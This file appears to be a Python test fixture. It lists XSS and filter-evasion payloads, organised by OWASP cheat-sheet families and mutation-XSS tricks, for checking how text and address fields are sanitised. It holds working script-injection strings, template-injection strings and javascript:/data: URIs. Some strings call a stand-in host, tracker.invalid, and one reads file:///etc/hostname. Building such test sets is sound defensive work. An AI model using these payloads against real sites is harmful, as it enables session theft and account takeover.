"""Spellings of script in text, one or more of each family of OWASP's filter-evasion cheat sheet and of mutation XSS.

The families are theirs, the strings our own. Each would say something by `alert`, or call at `tracker.invalid`.
"""

MARKUP = (
    # plain elements, cases, blanks, nesting, no end
    "<script>alert(1)</script>",
    "<ScRiPt\t>alert(2)</sCrIpT\n>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<script src=https://tracker.invalid/a.js></script>",
    "<script/x>alert(4)//",
    "<<script>alert(5)//<</script>",
    # event handlers, with all kinds of quotes and none
    "<img src=x onerror=alert(10)>",
    "<img/src=`x`/onerror=alert(11)//",
    "<svg/onload=alert(12)>",
    "<svg><animate onbegin=alert(13) attributeName=x dur=1s></svg>",
    "<details open ontoggle=alert(14)>x</details>",
    "<input autofocus onfocus=alert(15)>",
    "<video><source onerror=alert(16)></video>",
    "<marquee onstart=alert(17)>x</marquee>",
    "<b style=animation-name:x onanimationstart=alert(18)>x</b>",
    # out of attributes, elements and comments
    "\"><script>alert(20)</script>",
    "'><img src=x onerror=alert(21)>",
    "\" autofocus tabindex=1 onfocus=alert(22) x=\"",
    "' onmouseover='alert(23)",
    "` onmouseover=alert(24) `",
    "</title></style></textarea></noscript></script></template><script>alert(25)</script>",
    "--><script>alert(26)</script><!--",
    "]]><script>alert(27)</script><![CDATA[",
    "<!--><img src=x onerror=alert(28)>-->",
    # what loads or leads elsewhere
    "<iframe srcdoc='<script>parent.alert(30)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(31)</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=alert(32)>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(33)'>",
    "<base href=https://tracker.invalid/>",
    "<link rel=stylesheet href=https://tracker.invalid/x.css>",
    "<style>@import 'https://tracker.invalid/y.css'; *{background:url(https://tracker.invalid/z)}</style>",
    "<form action=javascript:alert(34)><button autofocus>x</button></form>",
    "<a href=javascript:alert(35)>x</a>",
    "<math><maction xlink:href=javascript:alert(36)>x</maction></math>",
    # written otherwise: references, escapes, other widths, what a browser drops
    "&lt;script&gt;alert(40)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(41)&#62;",
    "&amp;lt;svg onload=alert(42)&amp;gt;",
    "%3Cscript%3Ealert(43)%3C/script%3E",
    "\\u003cscript\\u003ealert(44)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(45)\\x3e",
    "＜script＞alert(46)＜/script＞",
    "+ADw-script+AD4-alert(47)+ADw-/script+AD4-",
    "<\u200bscript>alert(48)</script>",
    "<img src=x onerror\u2028=\u2029alert(49)>",
    # into a script, JSON, a template, a style
    "';alert(50);//",
    "\\\";alert(51);//",
    "</script><svg onload=alert(52)>",
    "\u2028alert(53)\u2029",
    "${alert(54)}",
    "{{constructor.constructor('alert(55)')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "<!--<script>",
    "}*{background:url(//tracker.invalid/c)}",
    # harmless until a page parses it a second time
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(60)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(61)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(62)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(63)>",
    "<select><template><style><!--</template><a rel=\"--></style><img src=x onerror=alert(64)>\">",
    "<p id=\"`onmouseover=alert(65)//\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(66)>\">",
)  # fmt: skip
"""For any field that holds a text."""

ADDRESSES = (
    "javascript:alert(70)",
    "JaVaScRiPt:alert(71)",
    "java\tscript:alert(72)",
    "\u200bjavascript:alert(73)",
    "&#106;avascript&colon;alert(74)",
    "javascript&#0000058alert(75)",
    "vbscript:msgbox(76)",
    "data:text/html,<script>alert(77)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg3OCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(79)>",
    "view-source:javascript:alert(80)",
    "blob:https://tracker.invalid/x",
    "file:///etc/hostname",
    "//tracker.invalid/x",
    "https://a.invalid/\"onmouseover=\"alert(81)",
    "https://a.invalid/'><script>alert(82)</script>",
    "https://a.invalid\\@tracker.invalid/%0d%0aX:y",
)  # fmt: skip
"""For any field that holds an address."""
